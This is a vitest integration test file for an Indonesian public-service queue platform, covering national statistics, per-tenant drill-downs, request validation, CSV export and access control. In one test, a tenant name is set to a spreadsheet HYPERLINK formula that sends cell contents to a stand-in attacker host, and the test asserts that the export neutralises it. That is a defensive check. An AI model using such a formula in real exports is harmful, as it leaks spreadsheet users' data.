import { Logger } from '@aws-lambda-powertools/logger'
import { closeDueDays } from '@mpp/api/queue/day-close'
import { beforeAll, describe, expect, it } from 'vitest'
import { createClock } from '../support/clock'
import { counterPost, json, take } from '../support/queue-helpers'
import {
  createTestApp,
  loginCookie,
  platformHost,
  signedIn,
  type TestApp,
  tenants,
} from '../support/test-app'

let t: TestApp
let ministry: () => Promise<string>
const clock = createClock('2026-11-23T02:00:00Z') // Monday 09:00 WIB
const logger = new Logger({ logLevel: 'SILENT' })
const all = (answer: number) =>
  Object.fromEntries(['U1', 'U2', 'U3', 'U4', 'U5', 'U6', 'U7', 'U8', 'U9'].map((e) => [e, answer]))

/** Serves `count` citizens at a counter of a tenant, each after `waitMinutes` in line; each rates with `answer`. */
const serveAndRate = async (
  tenant: { host: string },
  admin: string,
  counterId: string,
  count: number,
  waitMinutes: number,
  answer: number,
) => {
  const officer = await loginCookie(t, tenant.host, admin)
  for (let i = 0; i < count; i++) {
    const issued = await take(t, tenant.host, 'disdukcapil-ktp-el')
    clock.advanceMinutes(waitMinutes)
    await counterPost(t, tenant.host, officer, counterId, 'call-next')
    await counterPost(t, tenant.host, officer, counterId, 'start', { ticketKey: issued.key })
    clock.advanceMinutes(4)
    await counterPost(t, tenant.host, officer, counterId, 'complete', { ticketKey: issued.key })
    const secret = issued.link.split('/').pop()
    const rated = await t.request(
      tenant.host,
      `/api/tickets/${issued.key}/${secret}/survey`,
      json({ answers: all(answer) }),
    )
    expect(rated.status).toBe(201)
  }
}

const get = async (path: string, cookie?: string, host = platformHost) => {
  const res = await t.request(host, path, { headers: { cookie: cookie ?? (await ministry()) } })
  return {
    status: res.status,
    body: res.headers.get('content-type')?.includes('json') ? await res.json() : await res.text(),
  }
}

beforeAll(async () => {
  t = await createTestApp({ now: clock.now })
  ministry = signedIn(t, platformHost, 'kementerian@panrb.test')
  // Pekanbaru: three citizens called at once, rating 4; Samarinda: two called after 20 minutes, rating 3.
  await serveAndRate(tenants.pekanbaru, 'petugas@pekanbaru.test', 'loket-4', 3, 0, 4)
  await serveAndRate(tenants.samarinda, 'petugas@samarinda.test', 'loket-1', 2, 20, 3)
  // The days close: Pekanbaru after its office hours, Samarinda (open around the clock) after local midnight.
  clock.set('2026-11-23T17:30:00Z')
  await closeDueDays({ db: t.db, now: clock.now, logger })
  clock.set('2026-11-24T02:00:00Z')
}, 60_000)

describe("the ministry's national statistics", () => {
  it('counts coverage of the 514 regencies and what each MPP did, from the roll-ups', async () => {
    const { status, body } = await get('/api/stats/national?from=2026-11&to=2026-11&rank=served')
    expect(status).toBe(200)
    // Four MPPs are open on the platform; only the two that served a citizen in November count as serving.
    expect(body.coverage).toMatchObject({ regencies: 514, onPlatform: 4, serving: 2 })
    expect(body.coverage.provinces).toHaveLength(38)
    expect(body.coverage.provinces.find((p: { name: string }) => p.name === 'Riau')).toMatchObject({
      tenants: 1,
    })
    expect(body.national).toMatchObject({ served: 5, respondents: 5 })
    // 3 x 4s and 2 x 3s: NRR 3.6 everywhere, IKM 90.00.
    expect(body.national.ikm).toBe(90)
    expect(body.national.servedWithinShare).toBe(0.6)

    const [first, second] = body.tenants
    expect(first).toMatchObject({
      id: '14.71',
      summary: { served: 3, ikm: 100, grade: 'A', servedWithinShare: 1 },
    })
    expect(second).toMatchObject({
      id: '64.72',
      summary: { served: 2, ikm: 75, grade: 'C', servedWithinShare: 0 },
    })
    expect(second.summary.averageWaitMinutes).toBeCloseTo(20, 0)
    expect(body.days.find((d: { day: string }) => d.day === '2026-11-23')).toMatchObject({ served: 5 })
  })

  it('counts within a chosen wait and ranks by it', async () => {
    const { body } = await get('/api/stats/national?from=2026-11&to=2026-11&wait=30&rank=servedWithin')
    expect(body.national.servedWithinShare).toBe(1)
    expect(
      body.tenants
        .slice(0, 2)
        .map((r: { summary: { servedWithinShare: number } }) => r.summary.servedWithinShare),
    ).toEqual([1, 1])
  })

  it('drills down into one MPP by month and day', async () => {
    const { status, body } = await get('/api/stats/tenants/64.72?from=2026-10&to=2026-11')
    expect(status).toBe(200)
    expect(body.tenant.name).toContain('Samarinda')
    expect(body.months.map((m: { month: string }) => m.month)).toEqual(['2026-10', '2026-11'])
    expect(body.months[1]).toMatchObject({ served: 2, respondents: 2, ikm: 75 })
    expect(body.months[0]).toMatchObject({ served: 0, respondents: 0 })
    expect((await get('/api/stats/tenants/99.99')).status).toBe(404)
  })

  it('refuses a malformed month, more than 12 months, an unknown wait or ranking with 400', async () => {
    for (const query of ['from=2026-13', 'from=2025-01&to=2026-11', 'to=2026-1', 'wait=7', 'rank=best']) {
      const { status, body } = await get(`/api/stats/national?${query}`)
      expect(status, query).toBe(400)
      expect(body.error.code).toBe('invalid_request')
    }
  })

  it("neutralises a formula in an MPP's name in the CSV", async () => {
    const admin = await loginCookie(t, tenants.samarinda.host, 'admin@samarinda.test')
    const profile = await (
      await t.request(tenants.samarinda.host, '/api/admin/profile', { headers: { cookie: admin } })
    ).json()
    const formula = '=HYPERLINK("https://evil.example/x?d="&A1,"klik")'
    const rename = (name: string) =>
      t.request(tenants.samarinda.host, '/api/admin/profile', {
        method: 'PUT',
        headers: {
          'content-type': 'application/json',
          cookie: admin,
          origin: `http://${tenants.samarinda.host}`,
        },
        body: JSON.stringify({
          name,
          address: profile.address,
          email: profile.email,
          branding: profile.branding,
        }),
      })
    const saved = await rename(formula)
    expect(saved.status, await saved.text()).toBe(200)
    const csv = (await get('/kementerian/statistik.csv?from=2026-11&to=2026-11')).body as string
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/x?d=""&A1,""klik"")"`)
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m)
    expect((await rename(profile.name)).status).toBe(200)
  })

  it('shows the dashboard with its chart and ranking, the CSV and the drill-down page', async () => {
    const page = await get('/kementerian/statistik?from=2026-11&to=2026-11&rank=served')
    expect(page.status).toBe(200)
    expect(page.body).toContain(
      '4 dari 514 kabupaten/kota sudah membuka MPP di platform; 2 di antaranya melayani warga pada periode ini.',
    )
    expect(page.body).toContain('Angka nasional: November 2026')
    expect(page.body).toContain('<polyline class="chart-line"')
    expect(page.body.indexOf('Kota Pekanbaru')).toBeLessThan(page.body.indexOf('Kota Samarinda'))
    const csv = (await get('/kementerian/statistik.csv?from=2026-11&to=2026-11&rank=served')).body as string
    const rows = csv
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n')
    expect(rows[0]).toContain('served_within_15_minutes_share')
    expect(rows[1]).toMatch(
      /^1,14\.71,.*Pekanbaru.*,live,2026-11,2026-11,\d+,3,3,0,0\.0,4\.0,1\.000,3,100\.00,A,0,0,,0,0,0,,,0$/,
    )
    const drill = await get('/kementerian/statistik/64.72?from=2026-11&to=2026-11')
    expect(drill.body).toContain('Statistik Mal Pelayanan Publik Kota Samarinda')
  })
})

describe('a tenant and the statistics', () => {
  it("sees only its own numbers, and none of the ministry's routes", async () => {
    const admin = await loginCookie(t, tenants.samarinda.host, 'admin@samarinda.test')
    const own = await get('/api/stats?from=2026-11&to=2026-11', admin, tenants.samarinda.host)
    expect(own.status).toBe(200)
    expect(own.body.tenant.id).toBe('64.72')
    expect(own.body.total).toMatchObject({ served: 2, ikm: 75 })
    // The ministry's routes exist only on the platform host, and the tenant's session is no session there.
    expect((await get('/api/stats/national', admin, tenants.samarinda.host)).status).toBe(404)
    expect((await get('/api/stats/national', admin)).status).toBe(401)
    expect((await get('/api/stats/tenants/14.71', admin)).status).toBe(401)
    const officer = await loginCookie(t, tenants.samarinda.host, 'petugas@samarinda.test')
    expect((await get('/api/stats', officer, tenants.samarinda.host)).status).toBe(403)
  })
})
